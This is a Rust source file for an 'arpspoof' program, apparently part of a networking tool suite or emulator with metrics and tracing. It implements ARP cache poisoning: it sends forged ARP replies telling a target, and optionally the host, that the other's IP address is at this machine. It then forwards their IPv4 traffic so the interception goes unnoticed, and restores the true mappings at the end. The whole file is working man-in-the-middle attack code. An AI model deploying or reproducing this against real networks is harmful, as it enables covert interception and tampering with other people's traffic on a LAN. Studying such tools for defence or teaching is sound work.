//! `arpspoof`: tells neighbours by forged ARP that another's address is here, and hands on what they send.

use core::future::Future;
use core::pin::pin;
use core::task::Poll;
use core::time::Duration;
use std::net::{IpAddr, Ipv4Addr};

use septet_core::{Instant, Metric, Storey};
use septet_socket::admin::Link;
use septet_socket::{Admin, BoxFuture, NetExt, NetRef, PacketSocket};
use septet_wire::arp::{Operation, Packet};
use septet_wire::ethernet::{EtherType, MacAddr};
use septet_wire::ipv4;

use super::args::{self, Arg, ArgError, At, Spec, flag, value};
use super::names::Names;
use super::{Context, Misuse, Needs, Program, complain};
use crate::dns::Family;

/// The program.
pub(super) struct Arpspoof;

impl Program for Arpspoof {
    fn name(&self) -> &'static str {
        "arpspoof"
    }

    fn summary(&self) -> &'static str {
        "leads others' conversations through this host by forged ARP"
    }

    fn usage(&self) -> &'static str {
        "Usage: arpspoof [options] -t <target> <host>
 -c <count>      So many rounds (10); then both are told the truth again
 -f              Hand on what comes in, so that nobody notices
 -i <interface>  The interface (eth0)
 -p <interval>   Seconds between two rounds (2)
 -r              Tell the host too that the target is here
 -t <target>     Whom to tell that the host is here
"
    }

    fn metrics(&self) -> &'static [Metric] {
        METRICS
    }

    fn check(&self, args: &[String]) -> Result<Needs, Misuse> {
        let options = Options::parse(args).map_err(|e| Misuse::by(&e, SPECS))?;
        Ok(Needs { hosts: vec![options.host, options.target], ..Needs::default() })
    }

    fn run(&self, context: Context, args: Vec<String>) -> BoxFuture<'static, u8> {
        Box::pin(async move {
            match Options::parse(&args) {
                Ok(options) => match spoof(&context, &options).await {
                    Ok(()) => 0,
                    Err(why) => complain(&context, "arpspoof", &why, 1),
                },
                Err(e) => complain(&context, "arpspoof", &e, 2),
            }
        })
    }
}

struct Options {
    host: String,
    target: String,
    device: String,
    rounds: u32,
    interval: Duration,
    reverse: bool,
    forward: bool,
}

const SPECS: &[Spec] = &[value('c', ""), flag('f', ""), value('i', ""), value('p', ""), flag('r', ""), value('t', "")];

impl Options {
    fn parse(words: &[String]) -> Result<Self, At<ArgError>> {
        let mut options = Self {
            host: String::new(),
            target: String::new(),
            device: "eth0".to_owned(),
            rounds: 10,
            interval: Duration::from_secs(2),
            reverse: false,
            forward: false,
        };
        args::each(SPECS, words, |arg| {
            match arg {
                Arg::Free(word) if options.host.is_empty() => options.host = word,
                Arg::Free(word) => return Err(ArgError::Extra(word)),
                Arg::Flag(name) if name == "r" => options.reverse = true,
                Arg::Flag(_) => options.forward = true,
                Arg::Value(name, text) => match name.as_str() {
                    "c" => options.rounds = args::within("-c", &text, 1, u32::MAX, "a number from 1 on")?,
                    "i" => options.device = text,
                    "p" => options.interval = args::span("-p", &text)?,
                    _ => options.target = text,
                },
            }
            Ok(())
        })?;
        if options.host.is_empty() {
            return Err(ArgError::Missing("the host").into());
        }
        if options.target.is_empty() {
            return Err(ArgError::Missing("-t, the target").into());
        }
        Ok(options)
    }
}

/// One of the two between whom this host stands.
#[derive(Clone, Copy)]
struct Party {
    ip: Ipv4Addr,
    mac: MacAddr,
}

async fn spoof(context: &Context, options: &Options) -> Result<(), String> {
    let net = &context.net;
    let admin: Admin = net.admin().map_err(|e| e.to_string())?;
    let link = admin.link(&options.device).map_err(|e| e.to_string())?;
    let arp = net.open_packet(&link.name, EtherType::ARP).map_err(|e| format!("socket: {e}"))?;
    let ip = net.open_packet(&link.name, EtherType::IPV4).map_err(|e| format!("socket: {e}"))?;
    let own = admin.addresses().map_err(|e| e.to_string())?.into_iter().find_map(|a| match a.address.addr() {
        IpAddr::V4(v4) if a.iface == link.iface => Some(v4),
        _ => None,
    });
    let own = own.ok_or_else(|| format!("{}: no IPv4 address", link.name))?;
    let names = Names::new(net.clone());
    let mut parties = Vec::new();
    for name in [&options.host, &options.target] {
        let IpAddr::V4(address) = names.address(name, Family::V4).await.map_err(|e| format!("{name}: {e}"))? else {
            return Err(format!("{name}: not an IPv4 address"));
        };
        let mac = whereabouts(net, &arp, &link, own, address).await;
        let mac = mac.ok_or_else(|| format!("couldn't arp for host {address}"))?;
        parties.push(Party { ip: address, mac });
    }
    let between = Between { context, link, arp, ip, own, host: parties[0], target: parties[1] };
    let mut next = net.now();
    for _ in 0..options.rounds {
        between.tell(between.target, between.host.ip, between.link.mac);
        if options.reverse {
            between.tell(between.host, between.target.ip, between.link.mac);
        }
        next += options.interval;
        between.forward(next, options.forward).await;
    }
    // As the original does when it is stopped.
    between.tell(between.target, between.host.ip, between.host.mac);
    if options.reverse {
        between.tell(between.host, between.target.ip, between.target.mac);
    }
    Ok(())
}

/// Who has an address, by a question of the usual kind.
pub(super) async fn whereabouts(
    net: &NetRef,
    arp: &PacketSocket,
    link: &Link,
    own: Ipv4Addr,
    address: Ipv4Addr,
) -> Option<MacAddr> {
    let (operation, target_mac) = (Operation::Request, MacAddr::default());
    let question = Packet { operation, sender_mac: link.mac, sender_ip: own, target_mac, target_ip: address };
    for _ in 0..3 {
        arp.send(question.to_frame().bytes(), MacAddr::BROADCAST).ok()?;
        let why = net.cause();
        let until = net.now() + Duration::from_secs(1);
        let mut buf = [0; 64];
        while let Ok(Ok(taken)) = net.timeout(until.saturating_since(net.now()), arp.receive(&mut buf)).await {
            if let Ok(packet) = Packet::parse(&buf[..taken.len.min(buf.len())])
                && packet.sender_ip == address
                && packet.operation == Operation::Reply
            {
                // Every program that listens hears it, whoever asked.
                net.because(why);
                return Some(packet.sender_mac);
            }
        }
    }
    None
}

struct Between<'a> {
    context: &'a Context,
    link: Link,
    arp: PacketSocket,
    ip: PacketSocket,
    own: Ipv4Addr,
    host: Party,
    target: Party,
}

impl Between<'_> {
    /// Tells `party` that `ip` is at `mac`.
    fn tell(&self, party: Party, ip: Ipv4Addr, mac: MacAddr) {
        let net = &self.context.net;
        let operation = Operation::Reply;
        let forged = Packet { operation, sender_mac: mac, sender_ip: ip, target_mac: party.mac, target_ip: party.ip };
        net.count("arpspoof.sent");
        net.trace(Storey::Application, "arpspoof.forged", |f| {
            f.set("to", party.ip).set("is", ip).set("at", mac.0);
        });
        let _ = self.arp.send(forged.to_frame().bytes(), party.mac);
        let line = format!("{} {} 0806 42: arp reply {ip} is-at {mac}\n", self.link.mac, party.mac);
        self.context.console.out(line.as_bytes());
    }

    /// Until `until` hands on what the two send each other, and what goes by way of them.
    async fn forward(&self, until: Instant, is_on: bool) {
        let net = &self.context.net;
        // What is handed on has others' causes; the next round follows from the last.
        let why = net.cause();
        let mut buf = vec![0; 65_536];
        let mut over = net.sleep_until(until);
        loop {
            let taken = {
                let mut packet = pin!(self.ip.receive(&mut buf));
                core::future::poll_fn(|cx| {
                    if let Poll::Ready(taken) = packet.as_mut().poll(cx) {
                        return Poll::Ready(taken.ok());
                    }
                    core::pin::Pin::new(&mut over).poll(cx).map(|()| None)
                })
                .await
            };
            let Some(taken) = taken else { return net.because(why) };
            let packet = &buf[..taken.len.min(buf.len())];
            let Ok(header) = ipv4::Header::parse(packet) else { continue };
            // Short frames are padded.
            let packet = &packet[..packet.len().min(header.total_len.into())];
            if taken.to != self.link.mac || header.dst == self.own {
                continue;
            }
            let to = if taken.from == self.target.mac {
                self.host
            } else if taken.from == self.host.mac && header.dst == self.target.ip {
                self.target
            } else {
                continue;
            };
            net.count("arpspoof.seen");
            if is_on && self.ip.send(packet, to.mac).is_ok() {
                net.count("arpspoof.forwarded");
            }
        }
    }
}

/// What it records.
const METRICS: &[Metric] = &[
    Metric::counter("arpspoof.sent", "forged ARP packets, and those that tell the truth again at the end"),
    Metric::counter("arpspoof.seen", "packets of others that came here"),
    Metric::counter("arpspoof.forwarded", "packets that were handed on"),
];
